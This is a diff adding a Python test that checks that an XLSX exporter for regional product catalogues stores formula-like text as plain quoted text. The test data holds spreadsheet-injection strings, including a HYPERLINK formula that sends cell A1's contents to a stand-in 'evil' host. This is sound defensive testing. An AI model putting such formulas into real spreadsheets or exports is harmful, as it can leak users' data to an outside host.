@@ -180,3 +180,26 @@ def test_docx_has_chinese_guides_tables_and_east_asian_fonts(hebei, tmp_path: Pa
     runs = [r for p in doc.paragraphs for r in p.runs if r.text]
     assert runs and all(r._r.rPr.rFonts.get(qn("w:eastAsia")) == "宋体" for r in runs)
     assert "请改写" in text and "服务器" in text  # the jargon finding is shown to the consultant
+
+
+HOSTILE = ('=HYPERLINK("http://evil/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)")
+
+
+def test_catalogue_text_that_looks_like_a_formula_is_text_in_the_xlsx(bundle, tmp_path: Path):
+    import dataclasses
+
+    catalogue = bundle.catalogue.copy()
+    rows = catalogue.index[catalogue["region_id"] == "hebei"][: len(HOSTILE)]
+    for index, text in zip(rows, HOSTILE):
+        catalogue.at[index, "local_name"] = text
+        catalogue.at[index, "customer_value"] = f"{text}（客户的话）" if text != "-2+3" else text
+    hostile = dataclasses.replace(bundle, catalogue=catalogue)
+    path = write_toolbox_xlsx(build_toolbox(hostile, "hebei"), tmp_path / "hebei.xlsx")
+
+    wb = openpyxl.load_workbook(path)
+    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = {c.value for c in cells}
+    assert set(HOSTILE) <= values  # the text is intact: product names in tables and pick-lists
+    assert all(c.quotePrefix for c in cells if c.value in HOSTILE)  # stays text when edited in Excel
+    assert HOSTILE[0] in {v for row in wb["选项"].iter_rows(values_only=True) for v in row}  # drop-down list
